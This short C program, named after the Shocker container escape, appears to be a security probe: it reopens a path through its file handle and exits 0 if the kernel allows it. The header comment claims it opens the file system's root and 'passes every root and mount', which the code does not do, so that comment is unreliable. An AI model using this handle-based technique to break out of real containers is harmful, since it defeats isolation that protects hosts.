// SPDX-License-Identifier: Apache-2.0
// shocker PATH: opens the root directory of PATH's file system by its handle (inode 2, as ext file systems
// and many others have it, or the one that PATH itself has) and so passes every root and mount. Ends with 0
// if that works.
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

enum { kHandle = 128 };

int main(int argc, char** argv) {
  if (argc != 2) return 2;
  struct file_handle* handle = calloc(1, sizeof *handle + kHandle);
  if (!handle) return 2;
  handle->handle_bytes = kHandle;
  int mount_id = 0;
  if (name_to_handle_at(AT_FDCWD, argv[1], handle, &mount_id, 0) != 0) {
    printf("name: %s\n", strerror(errno));
    return 2;
  }
  const int mount_fd = open(argv[1], O_RDONLY | O_CLOEXEC);
  const int fd = open_by_handle_at(mount_fd, handle, O_RDONLY | O_CLOEXEC);
  printf("open: %s\n", fd >= 0 ? "yes" : strerror(errno));
  free(handle);
  return fd >= 0 ? 0 : 1;
}
